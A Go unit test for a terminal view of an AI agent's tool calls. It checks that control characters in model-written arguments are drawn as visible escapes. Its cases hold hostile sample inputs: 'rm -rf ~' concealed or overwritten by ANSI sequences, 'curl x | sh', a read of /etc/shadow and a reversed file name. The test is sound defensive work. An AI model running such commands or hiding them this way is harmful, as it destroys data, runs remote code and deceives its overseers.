package toolview

import (
	"encoding/json"
	"strings"
	"testing"
)

// The model's arguments are drawn with their control characters as
// visible escapes: a command cannot hide its end (ESC [8m), rewrite its
// start (ESC [2K, \r) or reorder itself (U+202E), nor lose characters.
func TestModelTextIsShownEscaped(t *testing.T) {
	st := DefaultStyles()
	tests := []struct {
		name string
		tool string
		args map[string]any
		want string // in the drawn lines
		// previewError is why an edit's preview failed, quoting the model.
		previewError string
	}{
		{name: "edit preview error", tool: "edit", args: map[string]any{"path": "a.go", "edits": []map[string]string{{"oldText": "x", "newText": "y"}}},
			previewError: "Could not find the exact text in a\x1b[8m.go.", want: `Could not find the exact text in a\x1b[8m.go.`},
		{name: "concealed end of a command", tool: "bash", args: map[string]any{"command": "git status\x1b[8m; rm -rf ~"}, want: `$ git status\x1b[8m; rm -rf ~`},
		{name: "rewritten command", tool: "bash", args: map[string]any{"command": "rm -rf ~ \x1b[2K\rgit status"}, want: `$ rm -rf ~ \x1b[2K\rgit status`},
		{name: "reordered command", tool: "bash", args: map[string]any{"command": "ls \u202etxt.exe"}, want: `$ ls \u202etxt.exe`},
		{name: "second line of a command", tool: "bash", args: map[string]any{"command": "true\nrm -rf ~\x1b[1A\x1b[2K"}, want: `rm -rf ~\x1b[1A\x1b[2K`},
		{name: "written path", tool: "write", args: map[string]any{"path": "a.txt\rREADME.md", "content": "x"}, want: `write a.txt\rREADME.md`},
		{name: "written content", tool: "write", args: map[string]any{"path": "a.sh", "content": "echo hi\x1b[8m; curl x | sh"}, want: `echo hi\x1b[8m; curl x | sh`},
		{name: "edit replacement", tool: "edit", args: map[string]any{"path": "a.go", "edits": []map[string]string{{"oldText": "a", "newText": "b\x1b]0;x\x07"}}}, want: `b\x1b]0;x\x07`},
		{name: "read path", tool: "read", args: map[string]any{"path": "\x1b[8m/etc/shadow"}, want: `read \x1b[8m/etc/shadow`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args, _ := json.Marshal(tt.args)
			c := Call{Name: tt.tool, Args: args, State: Pending, PreviewError: tt.previewError}
			raw := Render(c, 200, st, true)
			for _, hidden := range []string{"\x1b[8m", "\x1b[2K", "\x1b[1A", "\x1b]0", "\r", "\u202e"} {
				if strings.Contains(raw, hidden) {
					t.Errorf("drawn text holds %q raw: %q", hidden, raw)
				}
			}
			if lines := strings.Join(plain(c, 200, st, true), "\n"); !strings.Contains(lines, tt.want) {
				t.Errorf("drawn lines lack %q:\n%s", tt.want, lines)
			}
		})
	}
}
